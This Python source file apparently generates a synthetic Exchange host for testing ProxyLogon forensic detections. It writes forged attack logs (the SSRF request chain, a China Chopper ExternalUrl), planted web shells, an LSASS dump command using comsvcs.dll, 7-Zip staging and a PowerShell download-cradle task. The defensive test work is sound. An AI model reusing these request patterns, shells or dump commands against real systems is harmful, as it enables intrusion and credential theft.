                          iis_trace=Trace("C12", "POST /ecp/kq.js (Metasploit-style /ecp/<1-3>.js stem) from scanner",
                                          "CVE-2021-26855 / T1190", T_ATTEMPT + " (C03 grade; stem alone)")))
    h.httperr.append("2021-03-03 05:13:58 198.51.100.23 50112 10.0.0.10 443 HTTP/1.1 GET /ecp/%2e%2e%2fdefault.flt - 400 - BadRequest -")


def ex16_scanner_nmap_probe(h: Host) -> None:
    """Scanner 198.51.100.23, 05:16: Nmap NSE localhost probe GET /owa/auth/x.js, answered 500."""
    srv = h.srv
    nmap_ua = "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"
    h.reqs.append(Req(end=d(2021, 3, 3, 5, 16, 40, 871), proto="Owa", method="GET", stem="/owa/auth/x.js",
                      host=srv.ip, ua=nmap_ua, cip=SCANNER_IP, status=500, proxied=False,
                      anchor="ServerInfo~localhost/ecp/default.flt?",
                      routing_hint="X-AnonResource-Backend-Cookie", owa_encoding=True, latency=31,
                      error_code="ServerNotFound",
                      generic_errors=("ProxyState-Error=ServerNotFound;WebException=System.Net.WebException: "
                                      "Unable to connect to the remote server, inner: localhost:443; "
                                      "ServerNotFoundException: Server localhost, not found"),
                      proxy_trace=Trace("C03", "Nmap NSE localhost probe (ServerInfo~localhost, X-AnonResource-Backend-Cookie, 500)",
                                        "CVE-2021-26855 / T1190", T_ATTEMPT),
                      iis_trace=Trace("C12", "GET /owa/auth/x.js answered 500 (NSE probe stem)",
                                      "CVE-2021-26855 / T1190", T_ATTEMPT)))
    h.httperr.append("2021-03-03 05:16:39 198.51.100.23 50131 10.0.0.10 443 HTTP/1.1 GET /owa/auth/x.js - - 1 Connection_Dropped MSExchangeOWAAppPool")


def ex16_proxylogon_chain(h: Host) -> None:
    """Attacker 203.0.113.45, 06:48-06:49: the full ProxyLogon chain on /ecp/y.js (CVE-2021-26855,
    -27065): autodiscover, /mapi/emsmdb, proxyLogon.ecp, GetObject, SetObject (ExternalUrl =
    Chopper script), ResetOABVirtualDirectory, SetObject (clean-up), and the ECP rows it caused."""
    srv = h.srv
    rng = srv.rng
    canary = ATTACKER_CANARY
    stages = [
        (d(2021, 3, 3, 6, 49, 42, 162), "ExchangeServicesClient/0.0.0.0",
         "/autodiscover/autodiscover.xml?#", "/autodiscover/autodiscover.xml", "", 200,
         "stage 1 autodiscover.xml (LegacyDN leak)", T_CONFIRMED + " (chain; alone: attempt-only)"),
        (d(2021, 3, 3, 6, 49, 43, 699), PY_UA, "/mapi/emsmdb/?#", "/mapi/emsmdb/", "", 200,
         "stage 2 /mapi/emsmdb (SID leak)", T_LIKELY),
        (d(2021, 3, 3, 6, 49, 46, 210), PY_UA, "/ecp/proxyLogon.ecp?#", "/ecp/proxyLogon.ecp", "", 241,
         "stage 3 /ecp/proxyLogon.ecp answered 241", T_CONFIRMED),
        (d(2021, 3, 3, 6, 49, 51, 543), PY_UA,
         f"/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary={canary}&schema=OABVirtualDirectory#",
         "/ecp/DDI/DDIService.svc/GetObject", f"msExchEcpCanary={canary}&schema=OABVirtualDirectory", 200,
         "stage 4 DDIService GetObject schema=OABVirtualDirectory", T_CONFIRMED),
        (d(2021, 3, 3, 6, 49, 53, 841), PY_UA,
         f"/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary={canary}&schema=OABVirtualDirectory#",
         "/ecp/DDI/DDIService.svc/SetObject", f"msExchEcpCanary={canary}&schema=OABVirtualDirectory", 200,
         "stage 5 SetObject schema=OABVirtualDirectory (ExternalUrl set to script)", T_CONFIRMED),
        (d(2021, 3, 3, 6, 49, 57, 689), PY_UA,
         f"/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary={canary}&schema=ResetOABVirtualDirectory#",
         "/ecp/DDI/DDIService.svc/SetObject", f"msExchEcpCanary={canary}&schema=ResetOABVirtualDirectory", 200,
         "stage 6 SetObject schema=ResetOABVirtualDirectory (file written) = Test-ProxyLogon ResetVDir row",
         T_CONFIRMED),
        (d(2021, 3, 3, 6, 49, 58, 902), PY_UA,
         f"/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary={canary}&schema=OABVirtualDirectory#",
         "/ecp/DDI/DDIService.svc/SetObject", f"msExchEcpCanary={canary}&schema=OABVirtualDirectory", 200,
         "stage 7 SetObject again (ExternalUrl cleared)", T_CONFIRMED),
    ]
    # Request durations chosen so that each stage's [BeginRequest, EndRequest] brackets the
    # ECP Server/Activity rows it caused, and the stages do not overlap (one python client).
    stage_latency = [282, 485, 355, 250, 180, 1500, 150]
    for i, (t, ua, target, be_stem, be_query, status, what, tier) in enumerate(stages):
        is_reset = "ResetOABVirtualDirectory" in target
        h.reqs.append(Req(
            end=t, proto="Ecp", method="POST", stem="/ecp/y.js", host=srv.ext_host, ua=ua, cip=ATTACKER_IP,
            status=status, anchor=f"ServerInfo~a]@{srv.fqdn}:444{target}",
            target_server=f"a]@{srv.fqdn}:444{target}", routing_type="",
            routing_hint="X-BEResource-Cookie", be_stem=be_stem, be_query=be_query,
            be_user="CORP\\EXCH01$", latency=stage_latency[i],
            req_bytes=rng.randint(300, 2200), resp_bytes=rng.randint(200, 4000),
            proxy_trace=Trace("C03/C04" + ("/C06" if is_reset else ""),
                              f"CVE-2021-26855 SSRF chain from 203.0.113.45, {what}",
                              "CVE-2021-26855" + (", CVE-2021-27065" if i >= 4 else "") + " / T1190",
                              tier),
            iis_trace=Trace("C12/C04", f"POST /ecp/y.js {status} from 203.0.113.45 ({ua}); cafeReqId joins HttpProxy ({what.split(' (')[0]})",
                            "CVE-2021-26855 / T1190", T_LIKELY),
            be_trace=(Trace("C06", "W3SVC2 POST /ecp/DDI/DDIService.svc/SetObject schema=ResetOABVirtualDirectory 200 by CORP\\EXCH01$",
                            "CVE-2021-27065 / T1190, T1505.003", T_CONFIRMED) if is_reset else
                      Trace("C04", f"W3SVC2 back-end request of the chain by CORP\\EXCH01$ ({what.split(' (')[0]})",
                            "CVE-2021-26855 / T1190", "context (C04 evidence)"))))
    h.httperr.append("2021-03-03 06:48:59 203.0.113.45 40114 10.0.0.10 443 HTTP/1.1 POST /ecp/y.js - 400 - Verb -")

    # ECP Server rows of the session for the SID leaked through /mapi/emsmdb (CORP\Administrator, ...-500).
    atk = h.ecp_session("attacker")
    vd = srv.oab_vdir_guid
    dn = (f"CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN={srv.short},CN=Servers,"
          "CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,CN=Corp,"
          "CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=corp,DC=local")
    h.ecp += [
        EcpRow(d(2021, 3, 3, 6, 49, 51, 389), 34, atk, "Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null", URL_GET),
        EcpRow(d(2021, 3, 3, 6, 49, 51, 497), 12, atk, "Pipeline.1|Get-MailboxRegionalConfiguration", URL_GET),
        EcpRow(d(2021, 3, 3, 6, 49, 53, 772), 58, atk,
               f"Set-OabVirtualDirectory.ExternalUrl='{CHOPPER_URL}'.Identity='{vd}'", URL_SET, "",
               Trace("C05", "Set-OabVirtualDirectory.ExternalUrl='http://f/<script ...>eval(Request[\"klk123456\"],\"unsafe\")...' (Chopper key klk123456)",
                     "CVE-2021-27065 / T1190, T1505.003", T_CONFIRMED)),
        EcpRow(d(2021, 3, 3, 6, 49, 53, 834), 9, atk, f"Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity='{vd}'", URL_SET),
        EcpRow(d(2021, 3, 3, 6, 49, 56, 284), 41, atk, f"Get-OABVirtualDirectory.Identity='{vd}'", URL_RESET, "",
               Trace("C05", "S:URL with schema=ResetOABVirtualDirectory (reset writes the vdir dump, script included, to a chosen path)",
                     "CVE-2021-27065 / T1190, T1505.003", T_LIKELY)),
        EcpRow(d(2021, 3, 3, 6, 49, 56, 420), 18, atk, f"Get-ExchangeServer.Identity='{srv.short}'", URL_RESET),
        EcpRow(d(2021, 3, 3, 6, 49, 56, 917), 402, atk,
               f"Remove-OABVirtualDirectory.Force=$true.Identity='{srv.short}\\OAB (Default Web Site)'", URL_RESET, "",
               Trace("C05", "Remove-OABVirtualDirectory within 1 h of the confirmed row (vdir recreated)", "CVE-2021-27065 / T1070", T_LIKELY)),
        EcpRow(d(2021, 3, 3, 6, 49, 57, 611), 655, atk,
               (f"New-OABVirtualDirectory.WebSiteName='Default Web Site'.Server='{srv.short}'.Role='ClientAccess'"
                f".InternalURL='https://{srv.fqdn}/OAB'.Path='{srv.exch_win}\\FrontEnd\\HttpProxy\\OAB'"), URL_RESET, "",
               Trace("C05", "New-OABVirtualDirectory within 1 h of the confirmed row", "CVE-2021-27065 / T1070", T_LIKELY)),
        EcpRow(d(2021, 3, 3, 6, 49, 58, 835), 27, atk, f"Set-OabVirtualDirectory.ExternalUrl=$null.Identity='{vd}'", URL_SET,
               (f"Microsoft.Exchange.Data.Directory.ADNoSuchObjectException:Active Directory operation failed on DC01.corp.local. "
                f"The object '{dn}' does not exist.\\r\\n\\r\\nThe object does not exist.\\r\\n"),
               Trace("C05", "clean-up: Set-OabVirtualDirectory.ExternalUrl=$null (fails: vdir was recreated)", "CVE-2021-27065 / T1070", "context (noted with the C05 finding)")),
        EcpRow(d(2021, 3, 3, 6, 49, 58, 890), 8, atk,
               f"Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity='{srv.short}\\OAB (Default Web Site)'", URL_SET),
    ]
    be = f"https://{srv.fqdn}:444"
    h.activity += [
        (d(2021, 3, 3, 6, 49, 46, 198), "", f"{be}/ecp/proxyLogon.ecp",
         Trace("C04", "ECP activity: proxyLogon.ecp reached the back end (session for SID ...-500)", "CVE-2021-26855 / T1190", "context (C04 evidence)")),
        (d(2021, 3, 3, 6, 49, 51, 530), f"administrator@{srv.dom}", f"{be}{URL_GET}", None),
        (d(2021, 3, 3, 6, 49, 53, 830), f"administrator@{srv.dom}", f"{be}{URL_SET}", None),
        (d(2021, 3, 3, 6, 49, 57, 677), f"administrator@{srv.dom}", f"{be}{URL_RESET}",
         Trace("C04", "ECP activity: SetObject schema=ResetOABVirtualDirectory reached the back end (same canary)", "CVE-2021-27065 / T1190", "context (C04 evidence)")),
        (d(2021, 3, 3, 6, 49, 58, 894), f"administrator@{srv.dom}", f"{be}{URL_SET}", None),
    ]


def ex16_oab_dump_written(h: Host) -> None:
    """06:50:11 (CVE-2021-26858): the OAB generator reports the dump written to aspnet_client."""
    h.oab.append((d(2021, 3, 3, 6, 50, 11, 93), "Error", "OABFileHandler",
                  f"Download failed and temporary file 'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\{OAB_SHELL}' needs to be removed",
                  Trace("C07", f"CVE-2021-26858 write outside ClientAccess\\OAB: C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\{OAB_SHELL} (file exists with shell content)",
                        "CVE-2021-26858 / T1190, T1505.003", T_CONFIRMED)))


def ex16_ews_via_backend_cookie(h: Host) -> None:
    """Attacker, 07:14: mailbox access through SSRF with an injected BackEndCookie (no
    ServerInfo~ anchor, CSS-Exchange #310)."""
    srv = h.srv
    h.reqs.append(Req(end=d(2021, 3, 3, 7, 14, 3, 377), proto="Ecp", method="POST", stem="/ecp/y.js",
                      host=srv.ext_host, ua=PY_UA, cip=ATTACKER_IP, anchor="",
                      routing_type="", routing_hint="BackEndCookie",
                      backend_cookie=f"Server~a]@{srv.fqdn}:444/EWS/Exchange.asmx?#~{srv.ver_int}",
                      target_server=f"a]@{srv.fqdn}:444/EWS/Exchange.asmx?#",
                      be_stem="/EWS/Exchange.asmx", be_query="", be_user="CORP\\EXCH01$",
                      latency=1688, req_bytes=1410, resp_bytes=48211,
                      proxy_trace=Trace("C03", "SSRF via injected BackEndCookie Server~a]@.../EWS/Exchange.asmx?#~<ver> (no ServerInfo~ anchor), 200",
                                        "CVE-2021-26855 / T1190, T1114.002", T_LIKELY + " (confirmed via the C04 chain, same IP within 30 min)"),
                      iis_trace=Trace("C12", "POST /ecp/y.js 200 python-requests/2.25.1 (EWS mailbox access)",
                                      "CVE-2021-26855 / T1190", T_LIKELY)))


def iis_only(srv: Server, t, method, stem, ua, status, trace, cip=ATTACKER_IP, lat=None, sub=0, w32=0) -> Req:
    """A request served by the site root (aspnet_client): no HttpProxy row, no cafeReqId suffix."""
    return Req(end=t, proto=None, method=method, stem=stem, ua=ua, cip=cip, status=status,
               substatus=sub, win32=w32, latency=lat or srv.rng.randint(20, 400), iis_trace=trace)


def ex16_oab_shell_use(h: Host) -> None:
    """Attacker, 07:02-07:04: GET then three POSTs to the OAB-dump shell, which plant discover.aspx
    and RedirSuiteServerProxy.aspx."""
    srv = h.srv
    h.reqs += [
        iis_only(srv, d(2021, 3, 3, 7, 2, 37, 410), "GET", f"/aspnet_client/system_web/{OAB_SHELL}", PY_UA, 200,
                 Trace("C12", f"GET 200 of the planted OAB-dump shell {OAB_SHELL}, empty query", "T1505.003", T_LIKELY)),
        iis_only(srv, d(2021, 3, 3, 7, 3, 5, 72), "POST", f"/aspnet_client/system_web/{OAB_SHELL}", CHROME88, 200,
                 Trace("C12", f"POST 200 to confirmed shell {OAB_SHELL} (Chopper command)", "CVE-2021-27065 / T1505.003", T_CONFIRMED)),
        iis_only(srv, d(2021, 3, 3, 7, 3, 19, 640), "POST", f"/aspnet_client/system_web/{OAB_SHELL}", CHROME88, 200,
                 Trace("C12", f"POST 200 to confirmed shell {OAB_SHELL}", "CVE-2021-27065 / T1505.003", T_CONFIRMED)),
        iis_only(srv, d(2021, 3, 3, 7, 4, 2, 5), "POST", f"/aspnet_client/system_web/{OAB_SHELL}", CHROME88, 200,
                 Trace("C12", f"POST 200 to confirmed shell {OAB_SHELL} (writes the other two shells)", "T1505.003", T_CONFIRMED)),
    ]


def ex16_discover_shell_use(h: Host) -> None:
    """Attacker, 07:08-07:09 and 07:20: discover.aspx with antSword; the 07:20 POST writes root\\lsass.dmp."""
    srv = h.srv
    h.reqs += [
        iis_only(srv, d(2021, 3, 3, 7, 8, 55, 301), "GET", f"/aspnet_client/{CHOPPER2}", PY_UA, 200,
                 Trace("C12", f"GET 200 of planted Chopper {CHOPPER2}", "T1505.003", T_LIKELY)),
        iis_only(srv, d(2021, 3, 3, 7, 9, 12, 847), "POST", f"/aspnet_client/{CHOPPER2}", "antSword/v2.1", 200,
                 Trace("C12", f"POST 200 to confirmed shell {CHOPPER2}, user agent antSword/v2.1", "T1505.003", T_CONFIRMED)),
        iis_only(srv, d(2021, 3, 3, 7, 20, 38, 114), "POST", f"/aspnet_client/{CHOPPER2}", "antSword/v2.1", 200,
                 Trace("C12", f"POST 200 to {CHOPPER2} at 07:20:38, 3 s before root\\lsass.dmp's TimeDateStamp", "T1505.003, T1003.001", T_CONFIRMED)),
    ]


def ex16_owa_shell_use(h: Host) -> None:
    """Attacker, 07:05-07:06: GET then POSTs to owa/auth/RedirSuiteServerProxy.aspx (HttpProxy Owa + IIS)."""
    srv = h.srv
    for t, method, status, trace in [
        (d(2021, 3, 3, 7, 5, 41, 233), "GET", 200,
         Trace("C12", "GET 200 of look-alike shell RedirSuiteServerProxy.aspx (HttpProxy Owa row + IIS)", "T1505.003", T_LIKELY)),
        (d(2021, 3, 3, 7, 6, 10, 518), "POST", 200,
         Trace("C12", "POST 200 to confirmed shell RedirSuiteServerProxy.aspx", "T1505.003", T_CONFIRMED)),
        (d(2021, 3, 3, 7, 6, 44, 90), "POST", 200,
         Trace("C12", "POST 200 to confirmed shell RedirSuiteServerProxy.aspx", "T1505.003", T_CONFIRMED)),
    ]:
        h.reqs.append(Req(end=t, proto="Owa", method=method, stem=OWA_SHELL, host=srv.ext_host, ua=CHROME88,
                          cip=ATTACKER_IP, status=status, proxied=False, owa_encoding=True, latency=srv.rng.randint(30, 160),
                          iis_trace=trace,
                          proxy_trace=Trace("C12", f"HttpProxy Owa {method} {status} to RedirSuiteServerProxy.aspx from 203.0.113.45",
                                            "T1505.003", trace.tier)))


def ex16_shell_name_probes(h: Host) -> None:
    """Prober 192.0.2.77, 08:12: 404s for other actors' shell names (attempt-only)."""
    srv = h.srv
    probe_ua = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                "Chrome/65.0.2345 Safari/537.36")
    t0 = d(2021, 3, 3, 8, 12, 4, 511)
    for k, stem in enumerate(["/aspnet_client/shell.aspx", "/aspnet_client/system_web/log.aspx",
                              "/owa/auth/errorEE.aspx", "/owa/auth/OutlookEN.aspx", "/owa/auth/one.aspx",
                              "/aspnet_client/aspnet_www.aspx"]):
        t = t0 + dt.timedelta(seconds=3 * k, milliseconds=srv.rng.randint(0, 900))
        tr = Trace("C12", f"GET {stem} answered 404 from 192.0.2.77 (other actors' shell names)",
                   "T1505.003", T_ATTEMPT)
        if stem.startswith("/owa/"):
            h.reqs.append(Req(end=t, proto="Owa", method="GET", stem=stem, host=srv.ip, ua=probe_ua, cip=PROBER_IP,
                              status=404, proxied=False, owa_encoding=True, latency=12, iis_trace=tr,
                              proxy_trace=Trace("C12", f"HttpProxy Owa GET {stem} 404 from 192.0.2.77", "T1505.003", T_ATTEMPT)))
        else:
            h.reqs.append(iis_only(srv, t, "GET", stem, probe_ua, 404, tr, cip=PROBER_IP, lat=9, sub=0, w32=2))


def ex16_iis_restart(h: Host) -> None:
    """09:12: the OWA app pool is offline (HTTPERR 503), IIS restarts and repeats its W3SVC1 header."""
    h.httperr.append("2021-03-03 09:12:27 10.0.1.31 49311 10.0.0.10 443 HTTP/1.1 GET /owa/ - 503 1 AppOffline MSExchangeOWAAppPool")
    h.iis_restart = d(2021, 3, 3, 9, 12, 30)


def ex16_oab_generation(h: Host) -> None:
    """OAB generator runs at 00:12 and 08:12, with a benign failed download inside ClientAccess\\OAB\\Temp."""
    srv = h.srv
    oabn = h.layout.oab_name
    oab_temp = f"{srv.exch_win}\\ClientAccess\\OAB\\Temp\\LZXhzdmgalp.djs"
    h.oab += [
        (d(2021, 3, 3, 0, 12, 3, 51), "Info", "OABGeneratorAssistant",
         f"Starting OAB generation for '{oabn}' (version 4), previous sequence 411.", None),
        (d(2021, 3, 3, 0, 12, 31, 877), "Info", "OABGenerator",
         "Downloaded 2 files, 18342 bytes, from the previous OAB version.", None),
        (d(2021, 3, 3, 0, 12, 47, 302), "Warning", "OABFileHandler",
         f"Download failed and temporary file '{oab_temp}' needs to be removed",
         Trace("C07", "benign: temporary file inside <exch>\\ClientAccess\\OAB\\Temp (CSS-Exchange #320)", "CVE-2021-26858", T_NONE)),
        (d(2021, 3, 3, 0, 13, 9, 664), "Info", "OABGeneratorAssistant",
         f"OAB generation for '{oabn}' completed: sequence 412, 1 full, 1 differential, 412 recipients.", None),
        (d(2021, 3, 3, 8, 12, 2, 448), "Info", "OABGeneratorAssistant",
         f"Starting OAB generation for '{oabn}' (version 4), previous sequence 412.", None),
        (d(2021, 3, 3, 8, 12, 40, 5), "Info", "OABGeneratorAssistant",
         f"OAB generation for '{oabn}' completed: no changes, sequence 412 kept.", None),
    ]


def ex16_stock_server_files(h: Host) -> None:
    """IIS configuration, Exchange web folders and wwwroot as installed."""
    tree, srv = h.tree, h.srv
    tree.write_text("Windows/System32/inetsrv/config/applicationHost.config",
                    application_host_config(srv, "%ExchangeInstallPath%"))

    # ---- web folders ----
    web_folders(tree, srv, "15.1.2176", "ews", "TimeoutLogoff.aspx")
    wwwroot(tree)


def ex16_planted_web_shells(h: Host) -> None:
    """The shells on disk: RedirSuiteServerProxy.aspx, the OAB dump, discover.aspx, a UTF-16 Chopper page."""
    tree, srv = h.tree, h.srv
    tree.write_text(f"{srv.exch_rel}/FrontEnd/HttpProxy/owa/auth/RedirSuiteServerProxy.aspx",
                    chopper_one_liner("orange"),
                    Trace("C09/C10", "look-alike of the allow-listed RedirSuiteServiceProxy.aspx (Server, not Service) in owa\\auth; "
                                     "China Chopper eval(Request.Item[\"orange\"],\"unsafe\")",
                          "T1505.003", T_CONFIRMED + " (C09 likely + C10 confirmed)"))
    tree.write_text(f"inetpub/wwwroot/aspnet_client/system_web/{OAB_SHELL}", oab_dump_shell(srv, srv.exch_win),
                    Trace("C09/C10/C07", f"aspnet_client\\system_web\\{OAB_SHELL} (8 random letters): HAFNIUM OAB-config dump "
                                          "with ExternalUrl http://f/<script ...eval(Request[\"klk123456\"],\"unsafe\")...>, "
                                          "InternalAuthenticationMethods, ExtendedProtectionTokenChecking",
                          "CVE-2021-27065, CVE-2021-26858 / T1505.003", T_CONFIRMED))
    tree.write_text(f"inetpub/wwwroot/aspnet_client/{CHOPPER2}", chopper_one_liner("Ananas"),
                    Trace("C09/C10", f"aspnet_client\\{CHOPPER2}: one-line China Chopper (name IOC discover.aspx)",
                          "T1505.003", T_CONFIRMED))

    # A Chopper page saved as UTF-16LE (with BOM) among owa/auth's static resources, never requested.
    tree.write_bytes(f"{srv.exch_rel}/FrontEnd/HttpProxy/owa/auth/Current/themes/resources/errorEW.aspx",
                     b"\xff\xfe" + chopper_one_liner("Ananas").replace("\n", CRLF).encode("utf-16-le"),
                     Trace("C09/C10", "UTF-16LE China Chopper page among owa\\auth\\Current resources (a server page where only "
                                      "css/js/images belong; look-alike name errorEW.aspx); no request logged",
                           "T1505.003", T_CONFIRMED))


def ex16_compiled_shell_residue(h: Host) -> None:
    """Temporary ASP.NET Files of an earlier aspnet_client shell whose .aspx is gone."""
    tree = h.tree
    tree.write_bytes("Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/root/7c1e55a2/3b9d04f1/App_Web_k4p2x9qz.dll",
                     compiled_page_placeholder("~/aspnet_client/system_web/4_0_30319/healthcheck.aspx", "App_Web_k4p2x9qz"),
                     Trace("C11", "Temporary ASP.NET Files App_Web_k4p2x9qz.dll: compiled page of ~/aspnet_client/.../healthcheck.aspx "
                                  "with JScriptEvaluate (the source page no longer exists)", "T1505.003", T_CONFIRMED))
    tree.write_text("Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/root/7c1e55a2/3b9d04f1/"
                    "healthcheck.aspx.cdcab7d2.compiled",
                    '<?xml version="1.0" encoding="utf-8"?>\n<preserve resultType="3" virtualPath="/aspnet_client/system_web/4_0_30319/'
                    'healthcheck.aspx" hash="16f4b5a35" filehash="cfde5fbd4b3a83fe" flags="110000" assembly="App_Web_k4p2x9qz" '
                    'type="ASP.aspnet_client_system_web_4_0_30319_healthcheck_aspx">\n    <filedeps>\n        <filedep '
                    'name="/aspnet_client/system_web/4_0_30319/healthcheck.aspx" />\n    </filedeps>\n</preserve>\n',
                    Trace("C11", "preserve record healthcheck.aspx.cdcab7d2.compiled: virtualPath under /aspnet_client/, page not in the bundle",
                          "T1505.003", T_LIKELY))


def ex16_dumps_staging_lateral_files(h: Host) -> None:
    """LSASS dumps (07:20 through discover.aspx, 07:47 through PsExec), it.7z, PsExec residue, and a benign vendor ZIP."""
    tree = h.tree
    dump1 = build_minidump(int(d(2021, 3, 3, 7, 47, 12).timestamp()), 40960, seed=11)
    tree.write_bytes("Windows/Temp/debug01.tmp", dump1,
                     Trace("C13", "MDMP minidump named debug01.tmp; ModuleListStream first module C:\\Windows\\System32\\lsass.exe; "
                                  "TimeDateStamp 2021-03-03T07:47:12Z", "T1003.001", T_CONFIRMED))
    dump2 = build_minidump(int(d(2021, 3, 3, 7, 20, 41).timestamp()), 12288, seed=12)
    tree.write_bytes("root/lsass.dmp", dump2,
                     Trace("C13", "MDMP minidump root\\lsass.dmp (name + lsass.exe first module); TimeDateStamp 2021-03-03T07:20:41Z",
                           "T1003.001", T_CONFIRMED))
    srng = random.Random(7)
    tree.write_bytes("ProgramData/it.7z", bytes.fromhex("377ABCAF271C0004") + srng.randbytes(2040),
                     Trace("C14", "7z magic 37 7A BC AF 27 1C at root-level ProgramData\\it.7z (score +40; +20 if its file time is in the window)",
                           "T1560.001, T1074.001", T_INFO + " (score 40; likely only at >= 60)"))
    tree.write_bytes("ProgramData/McAfee/Common Framework/Backup/config.zip",
                     vendor_zip({"SiteList.xml": "<?xml version=\"1.0\"?>\r\n<!-- EXTRIAGE SYNTHETIC SAMPLE - benign vendor backup -->\r\n<SiteLists><SiteList Default=\"1\" Name=\"SomeGUID\"/></SiteLists>\r\n",
                                 "agent.ini": "; EXTRIAGE SYNTHETIC SAMPLE - benign vendor backup\r\n[Agent]\r\nAgentGUID={00000000-0000-0000-0000-000000000000}\r\n"}),
                     Trace("C14", "benign deep vendor archive (PK\\x03\\x04) under ProgramData\\McAfee\\... (score -30)",
                           "T1560.001", T_INFO + " (listed, never hidden)"))
    tree.write_bytes("Windows/PSEXESVC.exe",
                     b"MZ" + b"\x90\x00" + b"EXTRIAGE SYNTHETIC SAMPLE - placeholder for PsExec's service binary, not a program\r\n",
                     Trace("C16", "Windows\\PSEXESVC.exe (PsExec service residue)", "T1569.002, T1021.002", T_LIKELY))
    tree.write_bytes("Windows/PSEXEC-WKS042-A1B2C3D4.key", srng.randbytes(32),
                     Trace("C16", "Windows\\PSEXEC-WKS042-A1B2C3D4.key: PsExec from source host WKS042", "T1569.002, T1021.002", T_LIKELY))


def ex16_benign_temp_files(h: Host) -> None:
    """Benign files in the folders a hunter searches (Windows\\Temp, the user's Temp)."""
    tree = h.tree
    tree.write_text("Windows/Temp/MpSigStub.log",
                    "EXTRIAGE SYNTHETIC SAMPLE - benign\n"
                    "------------------------------------------------------------\n"
                    "Product Version: 4.18.2101.9 Service: MpSigStub.exe Start Time: Tue Mar 02 2021 03:11:42\n"
                    "Command: /stub 1.1.17800.5 /payload 1.333.1106.0 /program C:\\Windows\\SoftwareDistribution\\Download\\Install\\AM_Delta_Patch_1.333.1106.0.exe\n"
                    "Status: 0x00000000\n")
    tree.write_text("Windows/Temp/tmpA41C.tmp",
                    "EXTRIAGE SYNTHETIC SAMPLE - benign Windows Update scratch file\nKB5000803 staged\n")
    tree.write_text("Users/Administrator/AppData/Local/Temp/wuahandler.log",
                    "EXTRIAGE SYNTHETIC SAMPLE - benign\n2021-03-01 22:05:13 CU scan completed, 0 updates\n")


def ex16_console_history(h: Host) -> None:
    """Administrator's PSReadLine history: admin commands, then the dump and the 7-Zip staging."""
    tree = h.tree
    hist = LogFile()
    hist_lines = [
        ("Get-ExchangeServer | Format-List Name,AdminDisplayVersion", None),
        ("Get-Mailbox -ResultSize 10", None),
        ("Get-MailboxDatabaseCopyStatus", None),
        ("whoami /all", None),
        ("tasklist /svc | findstr lsass", None),
        ("rundll32.exe C:\\windows\\system32\\comsvcs.dll, MiniDump 624 C:\\windows\\temp\\debug01.tmp full",
         Trace("C13", "comsvcs.dll MiniDump of lsass (PID 624) into C:\\windows\\temp\\debug01.tmp", "T1003.001", T_CONFIRMED)),
        ("dir C:\\windows\\temp", None),
        ('& "C:\\Program Files\\7-Zip\\7z.exe" a -t7z C:\\ProgramData\\it.7z C:\\windows\\temp\\debug01.tmp -mx9',
         Trace("C14", "7-Zip packs the dump into C:\\ProgramData\\it.7z (context for the it.7z archive)", "T1560.001", "context (raises C14 score)")),
        ("Get-ChildItem C:\\ProgramData\\it.7z", None),
        ("exit", None),
    ]
    for text, tr in hist_lines:
        hist.add(text, tr)
    tree.write_log("Users/Administrator/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt", hist)


def ex16_registry_and_prefetch(h: Host) -> None:
    """Real SYSTEM and SOFTWARE hives and prefetch files (host_artifacts.py): PSEXESVC, WDigest, ProcDump."""
    tree = h.tree
    tree.write_bytes("Windows/System32/config/SYSTEM", host_artifacts.system_hive(),
                     Trace("C16", "SYSTEM hive: ControlSet001\\Services\\PSEXESVC, ImagePath %SystemRoot%\\PSEXESVC.exe, "
                                  "key last written 07:45:04", "T1569.002", T_LIKELY))
    tree.add_trace("Windows/System32/config/SYSTEM", None,
                   Trace("C13", "SYSTEM hive: Control\\SecurityProviders\\WDigest UseLogonCredential=1, key last written 07:21:50",
                         "T1003.001, T1112", T_LIKELY))
    tree.add_trace("Windows/System32/config/SYSTEM", None,
                   Trace("C16", "SYSTEM hive AppCompatCache: C:\\Windows\\PSEXESVC.exe (entry 1), C:\\ProgramData\\procdump64.exe (entry 2)",
                         "T1569.002, T1003.001", T_LIKELY))
    tree.write_bytes("Windows/AppCompat/Programs/Amcache.hve", host_artifacts.amcache_hive(),
                     Trace("C13", "Amcache InventoryApplicationFile c:\\programdata\\procdump64.exe with its SHA-1, key written 07:46:33",
                           "T1003.001", T_LIKELY))
    tree.write_bytes("Windows/System32/config/SAM", host_artifacts.sam_hive(),
                     Trace("C16", "SAM hive: local account exsvc (RID 1003), Names key written 07:51:30, last logon 08:05:12",
                           "T1136.001", T_ATTEMPT))
    tree.write_bytes("Windows/System32/config/SOFTWARE", host_artifacts.software_hive(),
                     Trace("C16", "SOFTWARE hive: ordinary Run entries and IFEO options (look-alikes)", "T1547.001, T1546.012", T_NONE))
    for name, data, planted in host_artifacts.prefetch_files():
        trace = (Trace("C13", f"{name}: PROCDUMP64.EXE run twice from C:\\ProgramData, 07:46:20 and 07:46:31", "T1003.001", T_LIKELY)
                 if planted else Trace("C13", f"{name}: ordinary program (look-alike)", "T1003.001", T_NONE))
        tree.write_bytes("Windows/Prefetch/" + name, data, trace)
    for path, data, planted in host_artifacts.task_files():
        trace = (Trace("C19", "scheduled task \\" + path.replace("/", "\\") + ": hidden, SYSTEM, registered 07:50:12 by CORP\\Administrator, "
                              "powershell -nop -w hidden -enc (download cradle from 203.0.113.45)", "T1053.005, T1059.001", T_LIKELY)
                 if planted else Trace("C19", "scheduled task \\" + path.replace("/", "\\") + ": Microsoft's own (look-alike)", "T1053.005", T_NONE))
